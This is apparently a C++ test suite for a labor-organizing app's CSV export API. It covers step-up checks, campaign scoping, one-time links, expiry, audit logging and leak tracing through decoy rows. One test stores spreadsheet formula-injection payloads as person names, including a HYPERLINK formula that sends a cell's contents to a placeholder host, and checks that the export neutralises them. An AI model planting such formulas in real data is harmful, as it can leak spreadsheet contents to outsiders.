// SPDX-License-Identifier: AGPL-3.0-or-later
// Exports over HTTP, on SQLite and PostgreSQL (api/export_handlers.h;
// security-model.md §2.12, §3, §4 rows 12 and 25; journeys.md J8.3): who may
// export and what they get (scope), step-up, reason and fields, the
// single-use link for its maker only, its 10-minute expiry (the handler
// called with the request time, no sleeping), formula-safe cells, the audit
// events with counts and no values, and `hotshop export trace` naming the
// export a leaked file came from.
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include <fstream>
#include <set>

#include "api/app.h"
#include "api/export_handlers.h"
#include "cli/master_key.h"
#include "store/account_repo.h"
#include "store/ids.h"
#include "store/key_service.h"
#include "store/store_test_base.h"
#include "support/api_actor.h"
#include "support/http_client.h"
#include "support/server_process.h"
#include "support/test_db.h"

namespace hotshop::testing {
namespace {

using nlohmann::json;

constexpr const char* kHarbor = "Harbor View Hotel housekeeping";
constexpr const char* kCopper = "Copper Kettle Coffee, 12 shops";
constexpr const char* kReason = "Phone bank for the Harbor View vote";
const std::set<std::string> kDemoNames = {"Rosa Quintero", "Lee Okafor",   "Marisol Vega",  "Marcus Bell",  "Dana Whitfield",
                                          "Tomas Reyes",   "Ana Lindqvist", "Sam Dufresne", "Kim Nakamura"};

json Parse(const HttpResult& r) {
  json j = json::parse(r.body, nullptr, false);
  return j.is_discarded() ? json::object() : j;
}

std::string Code(const HttpResult& r) { return Parse(r).value("code", ""); }

// The data rows of a CSV body (BOM and header dropped), split on CRLF.
std::vector<std::string> DataLines(const std::string& csv) {
  std::vector<std::string> out;
  std::string body = csv.rfind("\xEF\xBB\xBF", 0) == 0 ? csv.substr(3) : csv;
  size_t start = 0;
  for (size_t p = body.find("\r\n"); p != std::string::npos; p = body.find("\r\n", start)) {
    out.push_back(body.substr(start, p - start));
    start = p + 2;
  }
  if (!out.empty()) out.erase(out.begin());
  return out;
}

class ExportApi : public ::testing::TestWithParam<DbKind> {
 protected:
  void SetUp() override {
    db_ = std::make_unique<TestDb>(GetParam());
    server_ = std::make_unique<ServerProcess>(*db_, std::vector<std::string>{"--rate-limit", "0"});
    admin_ = std::make_unique<ApiActor>(ApiActor::DemoAdmin(*db_, *server_));
    owner_ = db_->Open(2);
  }

  // SQL as the database owner: the test's own view, and its way to move a
  // session's step-up back in time or to give a grant the export flag.
  std::vector<std::vector<std::string>> Owner(const std::string& sql, store::Params params = {}) {
    auto r = store::TransactValue<store::Rows>(*owner_, [&](store::Tx& tx) -> Result<store::Rows> {
      if (sql.rfind("SELECT", 0) == 0) return tx.Query(sql, params);
      auto n = tx.Exec(sql, params);
      if (!n) return n.error();
      return store::Rows{};
    });
    if (!r) throw std::runtime_error("owner SQL failed: " + r.error().message() + ": " + sql);
    std::vector<std::vector<std::string>> out;
    for (const auto& row : *r) {
      std::vector<std::string> cells;
      for (size_t i = 0; i < row.size(); ++i) cells.push_back(row.Text(i));
      out.push_back(std::move(cells));
    }
    return out;
  }
  std::string OwnerScalar(const std::string& sql, store::Params params = {}) {
    auto rows = Owner(sql, std::move(params));
    return rows.empty() ? "" : rows[0][0];
  }

  std::string CampaignId(const std::string& name) {
    json list = Parse(admin_->Get("/api/orgs/demo/campaigns"));
    for (const auto& c : list["campaigns"]) {
      if (c["name"] == name) return c["id"].get<std::string>();
    }
    throw std::runtime_error("no campaign " + name);
  }

  HttpResult Export(ApiActor& who, json body) { return who.Post("/api/orgs/demo/exports", body); }

  json AuditEvents() {
    HttpResult a = admin_->Get("/api/orgs/demo/audit?limit=500");
    EXPECT_EQ(a.status, 200) << a.body;
    return Parse(a)["events"];
  }

  std::unique_ptr<TestDb> db_;
  std::unique_ptr<ServerProcess> server_;
  std::unique_ptr<ApiActor> admin_;
  std::unique_ptr<store::Database> owner_;
};
HOTSHOP_ON_BOTH_DATABASES(ExportApi);

TEST_P(ExportApi, AdminExportsDownloadsOnceAndTheAuditHoldsCountsNotValues) {
  // §4 row 12 through the API: stored verbatim, exported '-prefixed.
  std::string harbor = CampaignId(kHarbor);
  HttpResult p = admin_->Post("/api/orgs/demo/campaigns/" + harbor + "/people",
                              {{"name", "=HYPERLINK(\"http://x/?\"&A2)"}, {"phone", "+1 202 555 0199"}});
  ASSERT_EQ(p.status, 201) << p.body;
  ASSERT_EQ(admin_->Post("/api/orgs/demo/campaigns/" + harbor + "/people", {{"name", "@SUM(1)"}}).status, 201);

  // Signing in counts as a step-up for 5 minutes: no dialog needed yet.
  HttpResult made = Export(*admin_, {{"reason", kReason}, {"fields", {"phone", "name"}}});
  ASSERT_EQ(made.status, 201) << made.body;
  json e = Parse(made);
  const std::string id = e["id"];
  EXPECT_EQ(e["download_url"], "/api/orgs/demo/exports/" + id + "/file");
  EXPECT_EQ(e["rows"], 11) << "the 9 demo people and the 2 added";
  EXPECT_EQ(e["fields"], json({"name", "phone"})) << "file order, whatever the request's order";
  ASSERT_TRUE(e["expires_at"].is_number_integer());

  HttpResult file = admin_->Get(e["download_url"].get<std::string>());
  ASSERT_EQ(file.status, 200) << file.body;
  EXPECT_EQ(file.header("content-type"), "text/csv; charset=utf-8");
  EXPECT_EQ(file.header("content-disposition").rfind("attachment; filename=\"hotshop-export-", 0), 0u)
      << file.header("content-disposition");
  EXPECT_EQ(file.header("cache-control"), "no-store");
  EXPECT_EQ(file.body.rfind("\xEF\xBB\xBFname,phone\r\n", 0), 0u) << file.body.substr(0, 40);
  std::vector<std::string> lines = DataLines(file.body);
  EXPECT_EQ(lines.size(), 11u + 3u) << "11 people and 3 decoy rows:\n" << file.body;
  std::set<std::string> set(lines.begin(), lines.end());
  EXPECT_TRUE(set.count("Rosa Quintero,+12025550101")) << file.body;
  EXPECT_TRUE(set.count("\"'=HYPERLINK(\"\"http://x/?\"\"&A2)\",+12025550199")) << file.body;
  EXPECT_TRUE(set.count("'@SUM(1),")) << file.body;

  // Once.
  HttpResult again = admin_->Get(e["download_url"].get<std::string>());
  EXPECT_EQ(again.status, 410) << again.body;
  EXPECT_EQ(Code(again), "export_gone");
  EXPECT_EQ(OwnerScalar("SELECT count(*) FROM exports WHERE id = $1 AND content_ct IS NULL AND downloaded_at_ms IS NOT NULL",
                        {id}),
            "1")
      << "the file is gone from the database";

  // J8.3: the export lands in the audit log, with counts and field names and
  // never a value or the reason's text.
  json events = AuditEvents();
  std::map<std::string, std::string> by_action;
  for (const auto& ev : events) {
    std::string obj = ev["object"];
    if (obj.find(id) != std::string::npos) by_action[ev["action"].get<std::string>() + "/" + ev["outcome"].get<std::string>()] = obj;
    for (const char* secret : {"Rosa", "+1202555", "HYPERLINK", "Phone bank"}) {
      EXPECT_EQ(ev.dump().find(secret), std::string::npos) << "the audit log holds a value: " << ev.dump();
    }
  }
  EXPECT_EQ(by_action["export.created/allowed"], "export:" + id + " rows=11 fields=name,phone");
  EXPECT_EQ(by_action["export.downloaded/allowed"], "export:" + id + " rows=11");
  EXPECT_EQ(by_action["export.download/denied"], "export:" + id) << "the second try";
  for (const auto& ev : events) {
    if (ev["action"] == "export.created") {
      EXPECT_EQ(ev["actor"], "user:" + admin_->user_id());
    }
  }

  // The export log keeps the reason for the admins.
  HttpResult log = admin_->Get("/api/orgs/demo/exports");
  ASSERT_EQ(log.status, 200) << log.body;
  json first = Parse(log)["exports"][0];
  EXPECT_EQ(first["id"], id);
  EXPECT_EQ(first["reason"], kReason);
  EXPECT_EQ(first["rows"], 11);
  EXPECT_EQ(first["created_by"], admin_->user_id());
  EXPECT_TRUE(first["downloaded_at"].is_number_integer());
}

TEST_P(ExportApi, StepUpIsRequiredAndARefusalChangesNothing) {
  // §4 row 25: an export without a recent step-up is 401 step_up_required.
  Owner("UPDATE sessions SET step_up_at_ms = 0");
  HttpResult r = Export(*admin_, {{"reason", kReason}, {"fields", {"name", "phone"}}});
  EXPECT_EQ(r.status, 401) << r.body;
  EXPECT_EQ(Code(r), "step_up_required");
  EXPECT_EQ(OwnerScalar("SELECT count(*) FROM exports"), "0");
  for (const auto& ev : AuditEvents()) EXPECT_NE(ev["action"], "export.created");
  // Even a malformed body is answered step-up first: nothing about it leaks
  // to someone who may not export yet.
  EXPECT_EQ(Code(Export(*admin_, {{"reason", "no"}})), "step_up_required");

  // A step-up 4 minutes ago counts; one 6 minutes ago does not.
  int64_t now = store::NowMillis();
  Owner("UPDATE sessions SET step_up_at_ms = $1", {now - 6 * 60 * 1000});
  EXPECT_EQ(Export(*admin_, {{"reason", kReason}, {"fields", {"name"}}}).status, 401);
  Owner("UPDATE sessions SET step_up_at_ms = $1", {now - 4 * 60 * 1000});
  HttpResult ok = Export(*admin_, {{"reason", kReason}, {"fields", {"name"}}});
  EXPECT_EQ(ok.status, 201) << ok.body;
  // The download needs no second step-up (the link lives 10 minutes).
  Owner("UPDATE sessions SET step_up_at_ms = 0");
  EXPECT_EQ(admin_->Get(Parse(ok)["download_url"].get<std::string>()).status, 200);
}

TEST_P(ExportApi, OnlyAdminsAndFlaggedStaffExportAndStaffGetTheirCampaignsOnly) {
  std::map<std::string, std::unique_ptr<ApiActor>> actors;
  for (const char* role : {"staff_organizer", "volunteer_organizer", "worker_leader", "viewer", "dispatcher", "mentor"}) {
    actors[role] = std::make_unique<ApiActor>(
        ApiActor::Provision(*db_, *server_, std::string("export-") + role + "@example.org", role, kHarbor));
  }
  const json body = {{"reason", kReason}, {"fields", {"name", "phone"}}};
  // Everyone without the grant: 404, exactly like a missing route object,
  // audited as a denied "export"; a step-up changes nothing.
  std::string missing_body;
  for (auto& [role, a] : actors) {
    HttpResult r = Export(*a, body);
    EXPECT_EQ(r.status, 404) << role << ": " << r.body;
    if (missing_body.empty()) missing_body = r.body;
    EXPECT_EQ(r.body, missing_body) << role;
  }
  Owner("UPDATE sessions SET step_up_at_ms = $1", {store::NowMillis()});
  for (auto& [role, a] : actors) EXPECT_EQ(Export(*a, body).status, 404) << role << " after a step-up";
  std::set<std::string> denied;
  for (const auto& ev : AuditEvents()) {
    if (ev["action"] == "export" && ev["outcome"] == "denied") denied.insert(ev["actor"].get<std::string>());
  }
  for (auto& [role, a] : actors) EXPECT_TRUE(denied.count("user:" + a->user_id())) << role << "'s refusal is not audited";
  EXPECT_EQ(OwnerScalar("SELECT count(*) FROM exports"), "0");

  // A staff organizer with the export flag on the Harbor grant: Harbor's
  // people only, with or without naming the campaign; Copper stays 404.
  ApiActor& staff = *actors["staff_organizer"];
  Owner("UPDATE grants SET flags = 'export' WHERE user_id = $1", {staff.user_id()});
  HttpResult mine = Export(staff, body);
  ASSERT_EQ(mine.status, 201) << mine.body;
  EXPECT_EQ(Parse(mine)["rows"], 3);
  HttpResult file = staff.Get(Parse(mine)["download_url"].get<std::string>());
  ASSERT_EQ(file.status, 200);
  std::set<std::string> names;
  for (const auto& line : DataLines(file.body)) {
    std::string name = line.substr(0, line.find(','));
    if (kDemoNames.count(name)) names.insert(name);
  }
  EXPECT_EQ(names, (std::set<std::string>{"Rosa Quintero", "Lee Okafor", "Marisol Vega"}));
  EXPECT_EQ(Export(staff, {{"reason", kReason}, {"fields", {"name"}}, {"campaign", CampaignId(kHarbor)}}).status, 201);
  HttpResult copper = Export(staff, {{"reason", kReason}, {"fields", {"name"}}, {"campaign", CampaignId(kCopper)}});
  EXPECT_EQ(copper.status, 404) << copper.body;
  EXPECT_EQ(copper.body, missing_body);
  // The admin names a campaign: that campaign only; another org's or a made-up id: 404.
  HttpResult only = Export(*admin_, {{"reason", kReason}, {"fields", {"name"}}, {"campaign", CampaignId(kCopper)}});
  ASSERT_EQ(only.status, 201) << only.body;
  EXPECT_EQ(Parse(only)["rows"], 3);
  EXPECT_EQ(Export(*admin_, {{"reason", kReason}, {"fields", {"name"}}, {"campaign", store::NewId()}}).status, 404);
  EXPECT_EQ(Export(*admin_, {{"reason", kReason}, {"fields", {"name"}}, {"campaign", "not-an-id"}}).status, 404);
  // A revoked flag also closes the link already made.
  HttpResult pending = Export(staff, body);
  ASSERT_EQ(pending.status, 201);
  Owner("UPDATE grants SET flags = '' WHERE user_id = $1", {staff.user_id()});
  EXPECT_EQ(staff.Get(Parse(pending)["download_url"].get<std::string>()).status, 404);
}

TEST_P(ExportApi, TheLinkIsUselessToAnyoneButItsMaker) {
  ApiActor staff = ApiActor::Provision(*db_, *server_, "export-staff@example.org", "staff_organizer", kHarbor);
  Owner("UPDATE grants SET flags = 'export' WHERE user_id = $1", {staff.user_id()});
  HttpResult made = Export(*admin_, {{"reason", kReason}, {"fields", {"name"}}});
  ASSERT_EQ(made.status, 201) << made.body;
  std::string url = Parse(made)["download_url"];
  HttpResult other = staff.Get(url);
  EXPECT_EQ(other.status, 404) << other.body;
  HttpResult missing = staff.Get("/api/orgs/demo/exports/" + store::NewId() + "/file");
  EXPECT_EQ(other.body, missing.body) << "no oracle: another's export reads like a missing one";
  // Opened from another site (a link in an email): refused, and not spent.
  HttpResult cross = admin_->Send("GET", url, "", {{"Cookie", admin_->cookie()}, {"Sec-Fetch-Site", "cross-site"}});
  EXPECT_EQ(cross.status, 403) << cross.body;
  // Without a session: 401; the link is still there for its maker.
  HttpClient anonymous(server_->port());
  EXPECT_EQ(anonymous.Send("GET", url).status, 401);
  EXPECT_EQ(admin_->Get(url).status, 200);
}

TEST_P(ExportApi, BadRequestsAreRefusedWithTheFieldAndChangeNothing) {
  struct Case {
    json body;
    std::string field;
  };
  std::vector<Case> cases = {
      {{{"fields", {"name"}}}, "reason"},
      {{{"reason", "too short"}, {"fields", {"name"}}}, "reason"},
      {{{"reason", std::string(501, 'x')}, {"fields", {"name"}}}, "reason"},
      {{{"reason", "          hi          "}, {"fields", {"name"}}}, "reason"},
      {{{"reason", kReason}}, "fields"},
      {{{"reason", kReason}, {"fields", json::array()}}, "fields"},
      {{{"reason", kReason}, {"fields", "name"}}, "fields"},
      {{{"reason", kReason}, {"fields", {"name", "notes"}}}, "fields"},
      {{{"reason", kReason}, {"fields", {"name", "name"}}}, "fields"},
      {{{"reason", kReason}, {"fields", {"name"}}, {"campaign", 12}}, "campaign"},
      {{{"reason", kReason}, {"fields", {"name"}}, {"everyone", true}}, ""},
  };
  for (const auto& c : cases) {
    HttpResult r = Export(*admin_, c.body);
    EXPECT_EQ(r.status, 400) << c.body.dump() << ": " << r.body;
    EXPECT_EQ(Code(r), "invalid_input") << c.body.dump();
    if (!c.field.empty()) {
      EXPECT_EQ(Parse(r).value("field", ""), c.field) << c.body.dump();
    }
  }
  EXPECT_EQ(OwnerScalar("SELECT count(*) FROM exports"), "0");
  // 10 characters (of any script) is enough.
  EXPECT_EQ(Export(*admin_, {{"reason", "Ñandú día"}, {"fields", {"name"}}}).status, 400) << "9 characters";
  EXPECT_EQ(Export(*admin_, {{"reason", "Ñandú días"}, {"fields", {"name"}}}).status, 201) << "10 characters";
}

TEST_P(ExportApi, TheLinkExpiresTenMinutesAfterTheExport) {
  HttpResult made = Export(*admin_, {{"reason", kReason}, {"fields", {"name"}}});
  ASSERT_EQ(made.status, 201) << made.body;
  const std::string id = Parse(made)["id"];
  const int64_t expires_at = Parse(made)["expires_at"];
  const int64_t created_at = std::stoll(OwnerScalar("SELECT created_at_ms FROM exports WHERE id = $1", {id}));
  EXPECT_EQ(expires_at - created_at, 10 * 60 * 1000);

  // The handler itself, with the request time as a parameter: the way
  // `hotshop serve` calls it, minus the clock.
  Result<security::SecretBytes> kek = cli::LoadAndCheckMasterKey(*owner_, server_->key_file());
  ASSERT_TRUE(kek.ok()) << kek.error().message();
  store::KeyService keys(std::move(*kek));
  security::CommonPasswords common = security::CommonPasswords::FromList({});
  security::HashLimiter hashes(1);
  http::RateLimiter per_account(1, 1), failures(1, 1), per_client(1, 1);
  api::Services services{keys, common, security::PwhashParams{}, hashes, per_account, failures, per_client};
  api::Config config;
  security::Actor actor;
  actor.user_id = admin_->user_id();
  actor.org_id = OwnerScalar("SELECT id FROM orgs WHERE slug = 'demo'");
  auto grants = store::TransactValue<std::vector<security::Grant>>(*owner_, [&](store::Tx& tx) {
    return store::AccountRepo(tx, keys).Grants(actor.org_id, actor.user_id);
  });
  ASSERT_TRUE(grants.ok());
  actor.grants = *grants;
  auto call = [&](int64_t now) {
    api::Context ctx{*owner_, config, services, now, actor, std::nullopt};
    http::Request req;
    req.raw.method(http::Verb::get);
    req.route = "/api/orgs/{org}/exports/{id}/file";
    req.path = "/api/orgs/demo/exports/" + id + "/file";
    req.path_params = {{"org", "demo"}, {"id", id}};
    return api::GetExportFile(req, ctx);
  };
  http::Response late = call(expires_at);
  EXPECT_EQ(static_cast<int>(late.result()), 410) << late.body();
  EXPECT_NE(late.body().find("export_gone"), std::string::npos);
  EXPECT_EQ(OwnerScalar("SELECT count(*) FROM exports WHERE id = $1 AND content_ct IS NOT NULL", {id}), "1")
      << "a refused download changes nothing";
  http::Response in_time = call(expires_at - 1);
  EXPECT_EQ(static_cast<int>(in_time.result()), 200) << in_time.body();
  EXPECT_EQ(in_time.body().rfind("\xEF\xBB\xBFname\r\n", 0), 0u);
}

TEST_P(ExportApi, TraceNamesTheExportALeakedFileCameFrom) {
  HttpResult decoy_run = Export(*admin_, {{"reason", "An earlier export that did not leak"}, {"fields", {"name", "phone"}}});
  ASSERT_EQ(decoy_run.status, 201);
  HttpResult made = Export(*admin_, {{"reason", kReason}, {"fields", {"name", "phone", "email"}}});
  ASSERT_EQ(made.status, 201) << made.body;
  const std::string id = Parse(made)["id"];
  HttpResult file = admin_->Get(Parse(made)["download_url"].get<std::string>());
  ASSERT_EQ(file.status, 200);
  const std::string leaked = db_->dir() + "/leaked.csv";
  std::ofstream(leaked, std::ios::binary) << file.body;
  std::vector<std::string> base = {"--org", "demo", "--db", db_->url(), "--key-file", server_->key_file()};
  auto trace = [&](const std::string& path) {
    std::vector<std::string> args = {"export", "trace", path};
    args.insert(args.end(), base.begin(), base.end());
    return RunHotshop(args);
  };
  CommandResult found = trace(leaked);
  EXPECT_EQ(found.exit_code, 0) << found.out;
  EXPECT_NE(found.out.find("=> the file came from export " + id), std::string::npos) << found.out;
  EXPECT_NE(found.out.find("3 of 3 decoy rows found"), std::string::npos) << found.out;
  EXPECT_NE(found.out.find(kReason), std::string::npos) << found.out;
  EXPECT_NE(found.out.find("admin@demo.hotshop.invalid"), std::string::npos) << found.out;

  // The same rows with the decoys cut out name no export.
  std::string clean = "name,phone,email\r\n";
  for (const auto& line : DataLines(file.body)) {
    if (kDemoNames.count(line.substr(0, line.find(',')))) clean += line + "\r\n";
  }
  const std::string cleaned = db_->dir() + "/cleaned.csv";
  std::ofstream(cleaned, std::ios::binary) << clean;
  CommandResult none = trace(cleaned);
  EXPECT_EQ(none.exit_code, 1) << none.out;
  EXPECT_NE(none.out.find("no decoy row"), std::string::npos) << none.out;
  // The traces themselves are audited.
  int traced = 0;
  for (const auto& ev : AuditEvents()) traced += ev["action"] == "export.traced";
  EXPECT_EQ(traced, 2);
  // And the command line is checked.
  EXPECT_EQ(RunHotshop({"export", "trace"}).exit_code, 2);
  EXPECT_EQ(RunHotshop({"export", "trace", leaked}).exit_code, 2) << "--org is required";
}

}  // namespace
}  // namespace hotshop::testing
